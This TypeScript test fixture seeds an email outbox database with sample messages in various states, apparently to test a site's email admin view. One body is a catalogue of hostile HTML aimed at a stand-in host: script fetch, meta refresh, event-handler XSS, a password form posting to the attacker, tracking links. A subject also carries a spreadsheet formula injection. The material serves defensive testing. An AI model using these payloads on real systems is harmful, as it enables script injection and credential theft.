import type { Site } from '../price-watcher-support.ts';

/** The tokens of links that work once, which must never be shown to anybody. */
export const TOKEN = 'deadbeef'.repeat(8);

/** A hostile sender's content: it runs, loads, submits and navigates if it is treated as HTML. */
export const hostileHtml = (evil: string) => `
  <meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/" target="_top">
  <link rel="stylesheet" href="${evil}/style.css"><style>@import url(${evil}/import.css);</style>
  <script>top.hacked = true; fetch('${evil}/script')</script>
  <h1 onclick="top.hacked = true">Kia ora</h1><img src="${evil}/pixel.gif" onerror="top.hacked = true">
  <p style="background: url(${evil}/background)">Thank you for writing.</p>
  <svg onload="top.hacked = true"><script>top.hacked = true</script></svg>
  <iframe src="${evil}/frame" srcdoc="<script>top.hacked = true</script>"></iframe>
  <form action="${evil}/form"><input name="password" autofocus onfocus="top.hacked = true"><button>Sign in</button></form>
  <a href="${evil}/link" target="_top" ping="${evil}/ping">Our offer</a>
  <a href="javascript:top.hacked = true">Run</a><video src="${evil}/video" autoplay></video>`;

/**
 * Emails in every state, with their attempts, and a suppressed email address.
 * @param evil the URL in the hostile one
 */
export async function fillMails(site: Site, evil = 'http://evil.example'): Promise<void> {
  await site.backend.database.run(`
    delete from public.email_outbox; delete from private.email_suppressions; delete from public.rate_limit_hits;
    update private.email_switch set stopped_at = null, stopped_by = null, reason = null;
    insert into public.email_outbox
      (idempotency_key, kind, recipient, subject, text_body, html_body, status, cause, last_error, attempts, created_at, sent_at, next_attempt_at)
    select m.key, m.kind, m.recipient, m.subject, 'Kia ora,' || chr(10) || chr(10) || 'thank you for writing.' || chr(10), m.html, m.status, m.cause,
      m.answer, m.attempts, now() - m.age, case when m.status = 'sent' then now() - m.age + interval '2 seconds' end, now() + interval '4 minutes'
    from (values
      ('donation-thanks:d1', 'donation-thanks', 'Ana <ana@example.nz>', 'Thank you for the coffee', '<p>Thank you</p>', 'sent', null, null, 1, interval '20 minutes'),
      ('contact-confirmation:c1', 'contact-confirmation', 'wiremu@example.nz', 'HLN has your message', null, 'sent', null, null, 2, interval '50 minutes'),
      ('contact-request:c1', 'contact-request', 'HLN <kiaora@hln.example>', 'HLN enquiry from Wiremu, Kōwhai Ltd', null, 'pending', 'greylisted', '450 4.7.1 Please try again later', 1, interval '1 minute'),
      ('chat-transcript:consultation_1:4', 'chat-transcript', 'consultation@hln.example', 'Consultation: 王女士, 7 years', null, 'sent', null, null, 1, interval '2 hours'),
      ('feedback:f1', 'feedback', 'feedback@hln.example', 'SQL formatter: a dislike', null, 'failed', 'login', '535 5.7.8 Authentication credentials invalid', 12, interval '3 hours'),
      ('feedback:f2', 'feedback', 'feedback@hln.example', 'SQL formatter: a like', null, 'failed', 'login', '535 5.7.8 Authentication credentials invalid', 12, interval '4 hours'),
      ('contact-confirmation:c2', 'contact-confirmation', 'hemi@gone.example', 'HLN has your message, Hemi', null, 'failed', 'recipient', '550 5.1.1 No such mailbox', 1, interval '5 hours'),
      ('contact-confirmation:c3', 'contact-confirmation', 'mere@example.nz', 'HLN has your message, Mere', null, 'unknown', 'interrupted', 'The message was handed over, and no answer came: Connection closed unexpectedly', 1, interval '6 hours'),
      ('contact-confirmation:c4', 'contact-confirmation', 'flood@example.nz', 'HLN has your message once more', null, 'held', 'recipient-limit', 'Held: this recipient has been sent as many messages of this kind as the limit allows.', 0, interval '7 hours'),
      ('news:n1', 'news', 'marama@example.nz', 'Meeting on Friday', null, 'pending', null, null, 0, interval '10 minutes')
    ) as m (key, kind, recipient, subject, html, status, cause, answer, attempts, age);
    insert into private.email_attempts (email_id, attempt, started_at, finished_at, outcome, step, cause, smtp_code, enhanced_code, answer, headers)
    select o.id, 1, o.created_at, o.created_at + interval '1 second',
      case o.status when 'sent' then 'sent' when 'unknown' then 'unknown' when 'failed' then 'refused' else 'deferred' end,
      case o.status when 'sent' then null when 'unknown' then 'DATA' else 'RCPT TO' end, o.cause,
      substring(o.last_error from '^[0-9]{3}')::smallint, substring(o.last_error from '^[0-9]{3} ([245][.][0-9.]+)'),
      coalesce(o.last_error, '250 2.0.0 OK: queued as 4Tz1'),
      case when o.status in ('sent', 'unknown') then
        'From: HLN <no-reply@hln.example>' || chr(13) || chr(10) || 'To: ' || o.recipient || chr(13) || chr(10) || 'Subject: ' || o.subject
          || chr(13) || chr(10) || 'Message-ID: <' || o.id || '@hln.example>' end
    from public.email_outbox as o where o.attempts > 0;
    insert into private.email_suppressions (address, reason, origin) values
      ('old@gone.example', 'The last two emails to this address were refused for good.', 'bounce');
  `);
  await site.backend.database.query(
    `insert into public.email_outbox (idempotency_key, kind, recipient, subject, text_body, html_body, status, created_at, sent_at)
     values
       ('recovery:r1', 'auth', 'aroha@hln.example', 'Set a new password', $1, $2, 'sent', now() - interval '1 day', now() - interval '1 day'),
       ('contact-request:c9', 'contact-request', 'kiaora@hln.example', $3, 'Kia ora', $4, 'sent', now() - interval '2 days', now() - interval '2 days')`,
    [
      `Set it here:\nhttps://hln.example/login#recovery=${TOKEN}`,
      `<p><a href="https://hln.example/login#recovery=${TOKEN}">Set a new password</a></p>`,
      '=HYPERLINK("http://evil.example") <img src=x onerror="top.hacked = true">',
      hostileHtml(evil),
    ],
  );
}
